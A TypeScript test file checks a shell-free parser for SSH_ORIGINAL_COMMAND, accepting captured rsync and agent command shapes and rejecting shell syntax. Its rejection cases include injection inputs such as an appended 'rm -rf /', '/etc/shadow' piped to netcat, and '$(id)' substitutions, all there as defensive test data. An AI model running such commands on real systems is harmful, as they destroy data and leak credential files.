// Splitting SSH_ORIGINAL_COMMAND into words like a POSIX shell would, without
// running one (protocol/command-words.ts): the shapes rsync and the agent
// send, and what a shell would expand or interpret, refused.
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { splitCommand } from '../../protocol/command-words.ts';

describe('splitting SSH_ORIGINAL_COMMAND like a shell, without one', () => {
  // the shapes rsync 3.x and the agent were seen to send (captured from real runs)
  const cases: { name: string; command: string; words?: string[]; error?: RegExp }[] = [
    { name: 'an incremental pass with an epoch', command: 'STANDBY_EPOCH=5 rsync --server -logDtprIRe.iLsfxCIvu --timeout=30 --delete --force --stats --delay-updates . /ws/', words: ['STANDBY_EPOCH=5', 'rsync', '--server', '-logDtprIRe.iLsfxCIvu', '--timeout=30', '--delete', '--force', '--stats', '--delay-updates', '.', '/ws/'] },
    { name: "rsync's backslash escapes", command: "rsync --server -logDtpre.iLsfxCIvu . /tmp/d\\'q\\\"\\$x\\\\y\\ z/", words: ['rsync', '--server', '-logDtpre.iLsfxCIvu', '.', '/tmp/d\'q"$x\\y z/'] },
    { name: 'an escaped tab', command: 'rsync . /a\\\tb/', words: ['rsync', '.', '/a\tb/'] },
    { name: 'escaped shell characters', command: 'rsync . /a\\;b\\|c\\&d\\(e\\)\\<f\\>\\`g\\`\\#h\\!\\{\\}/', words: ['rsync', '.', '/a;b|c&d(e)<f>`g`#h!{}/'] },
    { name: "the agent's single-quoted flush", command: "STANDBY_EPOCH=5 sync -f '/tmp/dst dir'", words: ['STANDBY_EPOCH=5', 'sync', '-f', '/tmp/dst dir'] },
    { name: "a single quote inside single quotes, the agent's way", command: "sync -f '/a'\\''b'", words: ['sync', '-f', "/a'b"] },
    { name: 'double quotes', command: 'sync -f "/a b\\"c"', words: ['sync', '-f', '/a b"c'] },
    { name: 'globs and = stay literal', command: 'rsync . /x/st*r/[a]=,%^/', words: ['rsync', '.', '/x/st*r/[a]=,%^/'] },
    { name: 'a command list', command: 'rsync --server . /ws/; rm -rf /', error: /";" means something to a shell/ },
    { name: 'a pipe', command: 'cat /etc/shadow | nc x 1', error: /"\|"/ },
    { name: 'a variable', command: 'rsync . $HOME/x', error: /"\$"/ },
    { name: 'a command substitution in double quotes', command: 'rsync . "/ws/$(id)"', error: /would be expanded/ },
    { name: 'a backquote', command: 'rsync . `id`', error: /"`"/ },
    { name: 'a comment', command: 'rsync . /ws/ #x', error: /comment/ },
    { name: 'a line break', command: 'rsync . /ws/\ntouch /x', error: /line break/ },
    { name: 'an open quote', command: "sync -f '/ws", error: /not closed/ },
  ];
  for (const c of cases) {
    test(c.name, () => {
      if (c.error) assert.throws(() => splitCommand(c.command), c.error);
      else assert.deepEqual(splitCommand(c.command).map((w) => w.text), c.words);
    });
  }
});
